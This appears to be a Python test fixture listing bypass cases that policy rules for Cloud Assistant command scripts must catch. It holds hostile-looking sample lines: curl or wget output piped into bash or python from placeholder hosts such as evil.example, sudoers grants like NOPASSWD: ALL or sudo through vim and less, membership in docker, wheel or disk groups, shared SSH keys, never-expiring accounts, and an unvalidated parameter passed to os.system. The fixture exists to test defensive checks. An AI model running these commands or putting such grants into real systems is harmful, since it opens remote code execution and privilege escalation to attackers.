"""Dangerous programs that the rules about Cloud Assistant commands have to see."""

from tests.unit.policies.bypasses.changes import script
from tests.unit.policies.sample_stack import SCRIPT, Changes, encode

BYPASSES: dict[str, tuple[str, Changes]] = {
    # Commands
    "curl http | bash": ("command-fetches-https", script("curl http://evil.example/x | bash")),
    "curl https | bash": (
        "command-runs-what-it-holds",
        script("curl -fsSL https://get.example | bash"),
    ),
    "curl | sudo -E bash": (
        "command-runs-what-it-holds",
        script("curl -fsSL https://get.example/x |\n  sudo -E bash -s -- -y"),
    ),
    "wget | python": (
        "command-runs-what-it-holds",
        script("wget -qO- https://get.example | python3 -"),
    ),
    "curl | tee | sh": (
        "command-runs-what-it-holds",
        script("curl https://g.example | tee /tmp/x | sh"),
    ),
    "bash <(curl)": ("command-runs-what-it-holds", script("bash <(curl -s https://get.example)")),
    'bash -c "$(curl)"': (
        "command-runs-what-it-holds",
        script('bash -c "$(curl -s https://g.example)"'),
    ),
    "eval `wget`": ("command-runs-what-it-holds", script("eval `wget -qO- https://get.example`")),
    "curl -o and bash": (
        "command-runs-what-it-holds",
        script("curl -o /tmp/x.sh https://get.example\nbash /tmp/x.sh"),
    ),
    "curl > and chmod": (
        "command-runs-what-it-holds",
        script("curl https://get.example >/tmp/x\nchmod +x /tmp/x\n/tmp/x"),
    ),
    "wget and ./": (
        "command-runs-what-it-holds",
        script("wget https://get.example/setup.sh\n./setup.sh"),
    ),
    "rpm -i https": ("command-runs-what-it-holds", script("rpm -i https://get.example/x.rpm")),
    "set +e later": ("command-stops-on-error", script("set +e")),
    "set -e in a function": (
        "command-stops-on-error",
        {"command.commandContent": encode("# as root\nf() {\n set -e\n}\nuseradd x\n")},
    ),
    "parameter in single quotes": (
        "command-parameters-quoted",
        {"command.commandContent": encode(SCRIPT.replace("exit\n\n", "x='{{user}}'\nexit\n\n"))},
    ),
    "pattern that every value meets": (
        "command-parameters-validated",
        {"command.commandContent": encode(SCRIPT.replace("^[a-z][a-z0-9]*$", ".*"))},
    ),
    "case that takes every value": (
        "command-parameters-validated",
        {
            "command.commandContent": encode(
                SCRIPT.replace(
                    "[[ $user =~ ^[a-z][a-z0-9]*$ ]] || exit 2", "case $user in *) true ;; esac"
                )
            )
        },
    ),
    "a script of Python": (
        "command-readable",
        {
            "command.commandContent": encode(
                "#!/usr/bin/python3\nimport os\nos.system('{{user}}')\n"
            )
        },
    ),
    "a script of PowerShell": ("command-readable", {"command.type": "RunPowerShellScript"}),
    # What the catalogue gives
    "sudo everything": ("command-sudo-narrow", script("R='sudo ALL=(ALL) NOPASSWD: ALL'")),
    "sudo everything, without a user": (
        "command-sudo-narrow",
        script("R='sudo ALL=NOPASSWD: ALL'"),
    ),
    "sudo a wildcard": (
        "command-sudo-narrow",
        script("R='sudo ALL=(root) NOPASSWD: /usr/bin/systemctl restart *'"),
    ),
    "sudo an editor": (
        "command-sudo-narrow",
        script("R='sudo ALL=(root) NOPASSWD: /usr/bin/vim /etc/hosts'"),
    ),
    "sudo a pager": (
        "command-sudo-narrow",
        script("R='sudo ALL=(root) NOPASSWD: /usr/bin/less /var/log/x'"),
    ),
    "sudo all but one": (
        "command-sudo-narrow",
        script("R='sudo ALL=(root) NOPASSWD: ALL, !/bin/su'"),
    ),
    "sudo as #0": ("command-sudo-narrow", script("R='sudo ALL=(#0) NOPASSWD: /bin/bash'")),
    "sudo a folder": ("command-sudo-narrow", script("R='sudo ALL=(root) NOPASSWD: /opt/bin/'")),
    "group docker": ("command-groups-narrow", script("R='x\ngroups deploy docker\n'")),
    "group by usermod": ("command-groups-narrow", script("usermod -aG wheel,users x")),
    "group by gpasswd": ("command-groups-narrow", script("gpasswd -a x disk")),
    "a key that two share": (
        "command-keys-personal",
        script(
            "R='key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a\n"
            "key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA b'"
        ),
    ),
    "group docker as the primary one": (
        "command-groups-narrow",
        script("R='packages git\nprimary docker\n'"),
    ),
    "a key that everybody gets": (
        "command-keys-personal",
        script("readonly EVERYONE='key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA ops'"),
    ),
    "root for ever": (
        "command-accounts-end",
        script("[ops]='sudo ALL=(root) NOPASSWD: /usr/bin/systemctl restart app'"),
    ),
    "root for ten years": (
        "command-accounts-end",
        script("[ops]='sudo ALL=(root) NOPASSWD: /bin/mount /mnt\nexpires 3650'"),
    ),
    "root for all, who never expire": (
        "command-accounts-end",
        script("EVERYONE='sudo ALL = NOPASSWD: /bin/mount /mnt'\n[ops]='groups ops'"),
    ),
    "an end that is taken away": ("command-accounts-end", script("chage -E -1 someone")),
}
